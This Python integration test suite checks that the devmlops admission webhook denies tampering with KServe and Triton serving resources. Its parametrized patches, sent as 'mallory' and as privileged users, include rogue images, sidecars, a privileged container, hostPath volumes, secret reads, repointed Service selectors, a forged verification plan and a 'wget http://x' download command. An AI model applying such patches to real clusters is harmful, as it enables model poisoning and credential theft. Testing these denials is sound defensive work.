"""Property 2, children are exactly what devmlops renders: the webhook compares a child (the InferenceService of a
KServe model, the Deployment of a Triton model) field by field against the rendering of its admitted ModelDeployment
and the cluster policies. Creating or updating an InferenceService is the operator's alone; anything else on a child
(other images, args, commands, containers, a transformer or explainer, another runtime or storage URI, a changed or
missing verification plan) is denied whoever sends it."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest
from kubernetes import client as k8s

from devmlops.core.render import registry_auth_env
from devmlops.harness.controlplane import KSERVE_USER, OPERATOR_USER
from tests.integration.attacks.conftest import (
    KSERVE_GROUP,
    ROGUE,
    TRITON,
    KServePods,
    Served,
    admitted,
    as_dict,
    denied,
    owned_by,
    owner_ref,
)
from tests.integration.support import GROUP, VERSION, SignedModel, eventually, signed_by_evidence

ISVC = (KSERVE_GROUP, "v1beta1")
VERIFICATION = "devmlops.io/verification"
DIGEST = "devmlops.io/model-digest"
ENV_PLAN = "DEVMLOPS_VERIFICATION"
OTHER_DIGEST = "sha256:" + "9" * 64


def edited_plan(plan_json: str, *, digest: str = OTHER_DIGEST, public_key: str = "") -> str:
    """The plan with another digest (and, given ``public_key``, every authority swapped for that key)."""
    plan = json.loads(plan_json)
    plan["digest"] = digest
    if public_key:
        for group in plan.get("policies") or []:
            group["authorities"] = [{"name": "key-0", "kind": "key", "publicKey": public_key}]
    return json.dumps(plan, separators=(",", ":"))


def isvc_plan(child: dict[str, Any]) -> str:
    return str(child["spec"]["predictor"]["annotations"][VERIFICATION])


def patch_isvc(client: k8s.ApiClient, served: Served, patch: Any) -> Any:
    return k8s.CustomObjectsApi(client).patch_namespaced_custom_object(
        *ISVC, served.namespace, "inferenceservices", served.child["metadata"]["name"], patch
    )


def hand_made_copy(served: Served, name: str) -> Any:
    """The operator's InferenceService under another name: its spec, its annotations, its owner's uid."""
    metadata = served.child["metadata"]
    return {
        "apiVersion": f"{KSERVE_GROUP}/v1beta1",
        "kind": "InferenceService",
        "metadata": {
            "name": name,
            "labels": dict(metadata.get("labels") or {}),
            "annotations": dict(metadata.get("annotations") or {}),
            "ownerReferences": [owner_ref(served.model_deployment)],
        },
        "spec": served.child["spec"],
    }


# -- creating an InferenceService is the operator's alone --------------------------------------------------------


def test_an_inference_service_that_mallory_copies_from_the_operators_child_is_denied(
    mallory: k8s.ApiClient, served_kserve: Served
) -> None:
    """Right digest annotation, right storage URI, the operator's own verification plan, the ModelDeployment's uid:
    all copied, all correct, and still not the operator."""
    body = hand_made_copy(served_kserve, "fraud-copy")
    create = k8s.CustomObjectsApi(mallory).create_namespaced_custom_object
    denied(create, *ISVC, served_kserve.namespace, "inferenceservices", body)


def test_the_cluster_admin_cannot_create_a_child_inference_service_either(
    admin: k8s.ApiClient, served_kserve: Served
) -> None:
    body = hand_made_copy(served_kserve, "fraud-by-admin")
    create = k8s.CustomObjectsApi(admin).create_namespaced_custom_object
    denied(create, *ISVC, served_kserve.namespace, "inferenceservices", body)


def test_an_inference_service_with_no_owner_is_denied(mallory: k8s.ApiClient, enforced_namespace: str) -> None:
    body = {
        "apiVersion": f"{KSERVE_GROUP}/v1beta1",
        "kind": "InferenceService",
        "metadata": {"name": "sneaky"},
        "spec": {"predictor": {"model": {"modelFormat": {"name": "sklearn"}, "storageUri": "s3://models/any"}}},
    }
    create = k8s.CustomObjectsApi(mallory).create_namespaced_custom_object
    denied(create, *ISVC, enforced_namespace, "inferenceservices", body)


def test_a_hand_made_inference_service_in_a_namespace_not_under_enforcement_is_denied(
    mallory: k8s.ApiClient, plain_namespace: str
) -> None:
    """InferenceServices are reserved to the operator wherever the webhook sees them, not only under enforcement."""
    body = {
        "apiVersion": f"{KSERVE_GROUP}/v1beta1",
        "kind": "InferenceService",
        "metadata": {"name": "sneaky"},
        "spec": {"predictor": {"model": {"modelFormat": {"name": "sklearn"}, "storageUri": "s3://models/any"}}},
    }
    create = k8s.CustomObjectsApi(mallory).create_namespaced_custom_object
    denied(create, *ISVC, plain_namespace, "inferenceservices", body)


# -- updating the operator's InferenceService: anything but the rendering is denied ------------------------------

IsvcPatch = Callable[[dict[str, Any], SignedModel], dict[str, Any]]
DeploymentPatch = Callable[[dict[str, Any]], Any]


def _predictor(**fields: Any) -> dict[str, Any]:
    return {"spec": {"predictor": fields}}


def _model(**fields: Any) -> dict[str, Any]:
    return _predictor(model=fields)


ISVC_PATCHES: dict[str, IsvcPatch] = {
    "another-storage-uri": lambda c, r: _model(storageUri="devmlops+s3://models/poisoned"),
    "storage-uri-without-the-verifying-scheme": lambda c, r: _model(storageUri="s3://models/fraud"),
    "another-runtime": lambda c, r: _model(runtime="mallory-runtime"),
    "another-model-format": lambda c, r: _model(modelFormat={"name": "pytorch"}),
    "an-image-override": lambda c, r: _model(image=ROGUE),
    "a-runtime-version": lambda c, r: _model(runtimeVersion="latest"),
    "extra-args": lambda c, r: _model(args=["--model_dir=/mnt/other"]),
    "a-storage-spec-beside-the-uri": lambda c, r: _model(storage={"key": "mallory", "path": "poisoned/"}),
    "a-worker-spec": lambda c, r: _predictor(workerSpec={"containers": [{"name": "worker", "image": ROGUE}]}),
    "a-storage-uri-env-override": lambda c, r: _model(env=[{"name": "STORAGE_URI", "value": "s3://models/poisoned"}]),
    "a-transformer": lambda c, r: {
        "spec": {"transformer": {"containers": [{"name": "kserve-container", "image": ROGUE}]}}
    },
    "an-explainer": lambda c, r: {
        "spec": {"explainer": {"containers": [{"name": "kserve-container", "image": ROGUE}]}}
    },
    "an-extra-predictor-container": lambda c, r: _predictor(containers=[{"name": "sidecar", "image": ROGUE}]),
    "a-predictor-init-container": lambda c, r: _predictor(initContainers=[{"name": "prefetch", "image": ROGUE}]),
    "the-verification-plan-removed": lambda c, r: _predictor(annotations={VERIFICATION: None}),
    "the-verification-plan-for-another-digest": lambda c, r: _predictor(
        annotations={VERIFICATION: edited_plan(isvc_plan(c))}
    ),
    "the-verification-plan-trusting-mallorys-key": lambda c, r: _predictor(
        annotations={VERIFICATION: edited_plan(isvc_plan(c), digest=r.digest, public_key=r.key.public_pem)}
    ),
    "another-digest-annotation": lambda c, r: {"metadata": {"annotations": {DIGEST: r.digest}}},
}


@pytest.mark.parametrize("change", list(ISVC_PATCHES))
def test_changing_the_operators_inference_service_is_denied(
    mallory: k8s.ApiClient, served_kserve: Served, rogue_model: SignedModel, change: str
) -> None:
    patch = ISVC_PATCHES[change](served_kserve.child, rogue_model)
    denied(patch_isvc, mallory, served_kserve, patch)


@pytest.mark.parametrize("sender", ["admin", OPERATOR_USER, KSERVE_USER])
def test_changing_the_childs_spec_is_denied_whoever_sends_it(
    as_user: Callable[[str], k8s.ApiClient], served_kserve: Served, sender: str
) -> None:
    """The cluster admin, KServe's controller and even the operator's identity cannot write a child that is not
    the rendering: the comparison, not the sender, decides what a child may be."""
    patch = _model(storageUri="devmlops+s3://models/poisoned")
    denied(patch_isvc, as_user(sender), served_kserve, patch)
    denied(patch_isvc, as_user(sender), served_kserve, _predictor(annotations={VERIFICATION: None}))


def test_kserve_may_not_change_the_devmlops_annotations_of_the_child(
    as_user: Callable[[str], k8s.ApiClient], served_kserve: Served, rogue_model: SignedModel
) -> None:
    """KServe's identity may touch its own metadata (finalizers, its annotations), never what devmlops wrote."""
    denied(patch_isvc, as_user(KSERVE_USER), served_kserve, {"metadata": {"annotations": {DIGEST: rogue_model.digest}}})


# -- KServe's predictor Deployment: a chain member only KServe writes ---------------------------------------------

PREDICTOR_PATCHES: dict[str, DeploymentPatch] = {
    "the-servers-image": lambda d: _template(containers=[{"name": _server(d)["name"], "image": ROGUE}]),
    "an-extra-container": lambda d: _template(containers=[{"name": "sidecar", "image": ROGUE}]),
    "the-pods-verification-plan": lambda d: {
        "spec": {"template": {"metadata": {"annotations": {VERIFICATION: edited_plan(_template_plan(d))}}}}
    },
}


def _template_plan(deployment: dict[str, Any]) -> str:
    return str(deployment["spec"]["template"]["metadata"]["annotations"][VERIFICATION])


@pytest.mark.parametrize("change", list(PREDICTOR_PATCHES))
def test_changing_kserves_predictor_deployment_is_denied(
    admin: k8s.ApiClient, mallory: k8s.ApiClient, kserve_pods: KServePods, change: str
) -> None:
    namespace = kserve_pods.served.namespace
    items = [as_dict(d) for d in k8s.AppsV1Api(admin).list_namespaced_deployment(namespace).items]
    (predictor,) = owned_by(items, kserve_pods.served.child)
    patch = PREDICTOR_PATCHES[change](predictor)
    denied(k8s.AppsV1Api(mallory).patch_namespaced_deployment, predictor["metadata"]["name"], namespace, patch)


# -- the Triton Deployment: every field of the rendering counts --------------------------------------------------


def _verifier(deployment: dict[str, Any]) -> dict[str, Any]:
    """The init container that carries the verification plan (whatever the renderer calls it)."""
    inits = deployment["spec"]["template"]["spec"].get("initContainers") or []
    return next(c for c in inits if any(e.get("name") == ENV_PLAN for e in c.get("env") or []))


def _server(deployment: dict[str, Any]) -> dict[str, Any]:
    return dict(deployment["spec"]["template"]["spec"]["containers"][0])


def _template(**spec: Any) -> dict[str, Any]:
    return {"spec": {"template": {"spec": spec}}}


def _plan_env(deployment: dict[str, Any]) -> str:
    return str(next(e["value"] for e in _verifier(deployment)["env"] if e["name"] == ENV_PLAN))


TRITON_PATCHES: dict[str, DeploymentPatch] = {
    "the-verifiers-args": lambda d: _template(
        initContainers=[{"name": _verifier(d)["name"], "args": ["storage-initializer", "s3://models/x", "/mnt/models"]}]
    ),
    "the-verification-env": lambda d: _template(
        initContainers=[{"name": _verifier(d)["name"], "env": [{"name": ENV_PLAN, "value": edited_plan(_plan_env(d))}]}]
    ),
    "the-verifiers-image": lambda d: _template(initContainers=[{"name": _verifier(d)["name"], "image": ROGUE}]),
    "the-verifier-removed": lambda d: [{"op": "remove", "path": "/spec/template/spec/initContainers"}],
    "the-servers-image": lambda d: _template(containers=[{"name": _server(d)["name"], "image": ROGUE}]),
    "the-servers-command": lambda d: _template(
        containers=[
            {"name": _server(d)["name"], "command": ["sh", "-c", "wget -O /mnt/models/m http://x; exec tritonserver"]}
        ]
    ),
    "explicit-model-control": lambda d: _template(
        containers=[
            {
                "name": _server(d)["name"],
                "args": ["tritonserver", "--model-repository=/mnt/models", "--model-control-mode=explicit"],
            }
        ]
    ),
    "a-privileged-server": lambda d: _template(
        containers=[
            {"name": _server(d)["name"], "securityContext": {"privileged": True, "allowPrivilegeEscalation": True}}
        ]
    ),
    "an-extra-container": lambda d: _template(containers=[{"name": "sidecar", "image": ROGUE}]),
    "an-extra-init-container-after-the-verifier": lambda d: [
        {"op": "add", "path": "/spec/template/spec/initContainers/-", "value": {"name": "swap", "image": ROGUE}}
    ],
    "the-model-volume-on-the-host": lambda d: _template(
        volumes=[{"name": "model", "emptyDir": None, "hostPath": {"path": "/var/lib/models"}}]
    ),
    "another-digest-annotation": lambda d: {"metadata": {"annotations": {DIGEST: OTHER_DIGEST}}},
    # The team's registry credentials: the Secret of the fixed name, optional, for the verifier only.
    "another-registry-secret": lambda d: _template(
        initContainers=[{"name": _verifier(d)["name"], "env": [_registry_env(name="admins-registry-auth")]}]
    ),
    "another-key-of-the-registry-secret": lambda d: _template(
        initContainers=[{"name": _verifier(d)["name"], "env": [_registry_env(key="password")]}]
    ),
    "the-registry-secret-required": lambda d: _template(
        initContainers=[{"name": _verifier(d)["name"], "env": [_registry_env(optional=False)]}]
    ),
    "the-verifier-reads-a-whole-secret": lambda d: _template(
        initContainers=[{"name": _verifier(d)["name"], "envFrom": [{"secretRef": {"name": "admins-registry-auth"}}]}]
    ),
    "the-server-reads-the-registry-secret": lambda d: _template(
        containers=[{"name": _server(d)["name"], "env": [_registry_env()]}]
    ),
}


def _registry_env(**reference: Any) -> dict[str, Any]:
    """The verifier's registry credentials entry as rendered (core/render.py), with ``reference`` changed."""
    entry = copy.deepcopy(registry_auth_env())
    entry["valueFrom"]["secretKeyRef"].update(reference)
    return entry


@pytest.mark.parametrize("change", list(TRITON_PATCHES))
def test_changing_the_operators_triton_deployment_is_denied(
    mallory: k8s.ApiClient, served_triton: Served, change: str
) -> None:
    patch = TRITON_PATCHES[change](served_triton.child)
    apps = k8s.AppsV1Api(mallory)
    denied(apps.patch_namespaced_deployment, served_triton.child["metadata"]["name"], served_triton.namespace, patch)


def test_the_cluster_admin_cannot_change_the_triton_verifier_either(
    admin: k8s.ApiClient, served_triton: Served
) -> None:
    patch = TRITON_PATCHES["the-verification-env"](served_triton.child)
    apps = k8s.AppsV1Api(admin)
    denied(apps.patch_namespaced_deployment, served_triton.child["metadata"]["name"], served_triton.namespace, patch)


def test_repointing_the_operators_triton_service_at_other_pods_is_denied(
    mallory: k8s.ApiClient, served_triton: Served
) -> None:
    """The Service is a child too: its selector decides which Pods get the model's traffic."""
    core = k8s.CoreV1Api(mallory)
    name = served_triton.child["metadata"]["name"]

    def service() -> list[dict[str, Any]]:
        items = [as_dict(i) for i in core.list_namespaced_service(served_triton.namespace).items]
        return [i for i in items if i["metadata"]["name"] == name]

    eventually(service, timeout=30, what="the operator's Triton Service")
    denied(core.patch_namespaced_service, name, served_triton.namespace, {"spec": {"selector": {"app": "impostor"}}})
    ports = [{"name": "http", "port": 8000, "targetPort": 9999}]
    denied(core.patch_namespaced_service, name, served_triton.namespace, {"spec": {"ports": ports}})


def test_repointing_kserves_predictor_service_at_other_pods_is_denied(
    admin: k8s.ApiClient, mallory: k8s.ApiClient, kserve_pods: KServePods
) -> None:
    """KServe's Service for the predictor is part of the served model as much as the operator's Triton Service:
    whoever changes its selector decides which Pods answer for the model."""
    namespace = kserve_pods.served.namespace
    core = k8s.CoreV1Api(admin)

    def predictor_services() -> list[dict[str, Any]]:
        items = [as_dict(i) for i in core.list_namespaced_service(namespace).items]
        return [i for i in items if (i["spec"].get("selector") or {}).get("app") == "isvc.fraud-predictor"]

    (service, *_) = eventually(predictor_services, timeout=30, what="KServe's predictor Service")
    patch = {"spec": {"selector": {"app": "impostor"}}}
    denied(k8s.CoreV1Api(mallory).patch_namespaced_service, service["metadata"]["name"], namespace, patch)


# -- positive controls -------------------------------------------------------------------------------------------


def test_the_operators_inference_service_is_admitted_with_the_rendered_verification_plan(
    served_kserve: Served, attack_model: SignedModel
) -> None:
    child = served_kserve.child
    assert owner_ref(served_kserve.model_deployment)["uid"] in [r["uid"] for r in child["metadata"]["ownerReferences"]]
    assert child["metadata"]["annotations"][DIGEST] == attack_model.digest
    assert child["spec"]["predictor"]["model"]["storageUri"] == "devmlops+s3://models/fraud"
    assert json.loads(isvc_plan(child))["digest"] == attack_model.digest
    assert "transformer" not in child["spec"]
    assert "explainer" not in child["spec"]


def test_the_operators_triton_deployment_verifies_the_model_before_the_server_starts(
    served_triton: Served, attack_model: SignedModel
) -> None:
    deployment = served_triton.child
    assert deployment["metadata"]["ownerReferences"][0]["uid"] == served_triton.model_deployment["metadata"]["uid"]
    assert json.loads(_plan_env(deployment))["digest"] == attack_model.digest
    assert [c["image"] for c in deployment["spec"]["template"]["spec"]["containers"]] == [TRITON]


def test_the_operators_triton_deployment_reads_the_teams_registry_secret_in_its_verifier_only(
    served_triton: Served,
) -> None:
    """As the API server stored it: the verifier's optional reference to the Secret of the fixed name in the model's
    namespace (its .dockerconfigjson), and no Secret anywhere else in the Pod."""
    spec = served_triton.child["spec"]["template"]["spec"]
    assert [e for e in _verifier(served_triton.child)["env"] if e["name"] != ENV_PLAN] == [
        {
            "name": "DEVMLOPS_REGISTRY_AUTH",
            "valueFrom": {
                "secretKeyRef": {"name": "devmlops-registry-auth", "key": ".dockerconfigjson", "optional": True}
            },
        }
    ]
    assert [c.get("env") for c in spec["containers"]] == [None]
    assert [v for v in spec["volumes"] if "secret" in v] == []


def test_kserve_may_add_its_finalizer_to_the_child(
    as_user: Callable[[str], k8s.ApiClient], served_kserve: Served
) -> None:
    patch = {"metadata": {"finalizers": ["inferenceservice.finalizers"]}}
    stored = admitted(patch_isvc, as_user(KSERVE_USER), served_kserve, patch)
    assert "inferenceservice.finalizers" in stored["metadata"]["finalizers"]


def test_a_namespace_editor_may_scale_the_child_down_and_delete_it(
    mallory: k8s.ApiClient, served_kserve: Served
) -> None:
    stored = admitted(patch_isvc, mallory, served_kserve, _predictor(minReplicas=0))
    assert stored["spec"]["predictor"]["minReplicas"] == 0
    custom = k8s.CustomObjectsApi(mallory)
    admitted(custom.delete_namespaced_custom_object, *ISVC, served_kserve.namespace, "inferenceservices", "fraud")


def test_no_model_deployment_may_take_the_name_of_another_ones_kserve_predictor(
    mallory: k8s.ApiClient, served_kserve: Served, attack_model: SignedModel
) -> None:
    """KServe serves ModelDeployment fraud at Service "fraud-predictor" (its predictor Deployment has that name too).
    A Triton ModelDeployment named "fraud-predictor" renders a Deployment and a Service under exactly those names,
    owned by itself, so the reserved-name rule for Services no model owns did not stop it: admitted on main, its
    operator wrote Service fraud-predictor selecting the editor's model server (found in review). Refused at create,
    naming the clash; the same ModelDeployment under another name is admitted (the control)."""
    create = k8s.CustomObjectsApi(mallory).create_namespaced_custom_object
    doc = signed_by_evidence("fraud-predictor", attack_model, runtime={"kind": "triton", "image": TRITON})
    doc["metadata"]["labels"] = {"devmlops.io/eu-ai-act-risk": "minimal"}
    doc["spec"]["model"]["name"] = "fraud"  # the name the signature covers
    message = denied(create, GROUP, VERSION, served_kserve.namespace, "modeldeployments", doc)
    assert "KServe's predictor of ModelDeployment fraud" in message
    doc["metadata"]["name"] = "fraud-b"
    admitted(create, GROUP, VERSION, served_kserve.namespace, "modeldeployments", doc, dry_run="All")
